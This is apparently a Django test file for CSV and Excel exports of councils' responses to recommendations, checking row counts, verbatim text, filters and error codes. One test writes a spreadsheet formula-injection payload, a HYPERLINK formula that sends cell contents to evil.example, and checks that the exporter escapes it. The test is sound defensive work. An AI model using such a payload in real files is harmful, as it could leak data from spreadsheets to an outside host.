"""Exports of responses to CSV and Excel."""

import csv
import io

import openpyxl
from django.urls import reverse

from recommendations.models import Recommendation
from responses.exports import COLUMNS, safe_cell
from responses.models import LocalResponse, Status

from .helpers import normalise


def read_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_central_bedfordshire_csv_has_a_row_for_every_recommendation_and_part_with_its_verbatim_text(
    officer_client,
):
    rows = read_csv(
        officer_client.get(reverse("responses:council_export", args=["central-bedfordshire", "csv"]))
    )
    assert rows[0] == COLUMNS
    body = rows[1:]
    assert len(body) == 69  # 58, with 2 and 19 answered part by part (10 and 3 parts)
    keys = [(int(row[1]), row[2]) for row in body]
    expected = [(n, "") for n in range(1, 59) if n not in (2, 19)]
    expected += [(2, letter) for letter in "abcdefghij"] + [(19, letter) for letter in "abc"]
    assert sorted(keys) == sorted(expected)
    response_column = COLUMNS.index("Response")
    for response in LocalResponse.objects.filter(authority__slug="central-bedfordshire").select_related(
        "part"
    ):
        key = (response.recommendation.number, response.part.letter if response.part else "")
        row = body[keys.index(key)]
        assert normalise(row[response_column]) == normalise(response.text)
        assert row[COLUMNS.index("Status")] == response.get_status_display()
    rec_12 = body[keys.index((12, ""))]
    assert rec_12[COLUMNS.index("Recommendation text")] == Recommendation.objects.get(number=12).text
    assert rec_12[COLUMNS.index("Theme")] == "Support for children"


def test_a_council_export_names_recommendations_it_has_not_answered(officer_client):
    rows = read_csv(
        officer_client.get(reverse("responses:council_export", args=["stockton-on-tees", "csv"]))
    )[1:]
    assert len(rows) == 58
    assert sum(1 for row in rows if row[COLUMNS.index("Status")] == "No response recorded") == 54


def test_excel_export_holds_the_same_rows(officer_client):
    response = officer_client.get(reverse("responses:council_export", args=["central-bedfordshire", "xlsx"]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == 70
    assert rows[1][1] == 1


def test_exports_are_safe_against_spreadsheet_formulas(officer_client, officer_darlington):
    response = LocalResponse.objects.get(authority__slug="darlington", recommendation__number=51)
    LocalResponse.objects.filter(pk=response.pk).update(
        text='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        lead_officer="+44 1325 388 000",
        evidence="@SUM(1)",
    )
    rows = read_csv(officer_client.get(reverse("responses:council_export", args=["darlington", "csv"])))
    row = next(r for r in rows[1:] if r[1] == "51")
    assert row[COLUMNS.index("Response")].startswith("'=HYPERLINK")
    assert row[COLUMNS.index("Lead officer")] == "'+44 1325 388 000"

    xlsx = officer_client.get(reverse("responses:council_export", args=["darlington", "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cell = next(r for r in sheet.iter_rows() if r[1].value == 51)[COLUMNS.index("Response")]
    assert cell.data_type == "s"
    assert cell.value.startswith("'=HYPERLINK")


def test_safe_cell_escapes_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Plain text") == "Plain text"
    assert safe_cell(None) == ""


def test_filtered_list_exports_only_what_the_filters_show(officer_client):
    url = reverse("responses:export", args=["csv"]) + "?status=partner_agency"
    rows = read_csv(officer_client.get(url))[1:]
    assert len(rows) == LocalResponse.objects.filter(status=Status.PARTNER_AGENCY).count()
    assert {row[COLUMNS.index("Status")] for row in rows} == {"A matter for a partner agency"}


def test_export_with_bad_filters_answers_400_with_the_reason(officer_client):
    response = officer_client.get(reverse("responses:export", args=["csv"]) + "?status=finished")
    assert response.status_code == 400
    assert b"status" in response.content


def test_export_in_an_unknown_format_is_not_found(officer_client):
    assert officer_client.get(reverse("responses:export", args=["pdf"])).status_code == 404
    assert officer_client.get("/authorities/darlington/responses.doc").status_code == 404
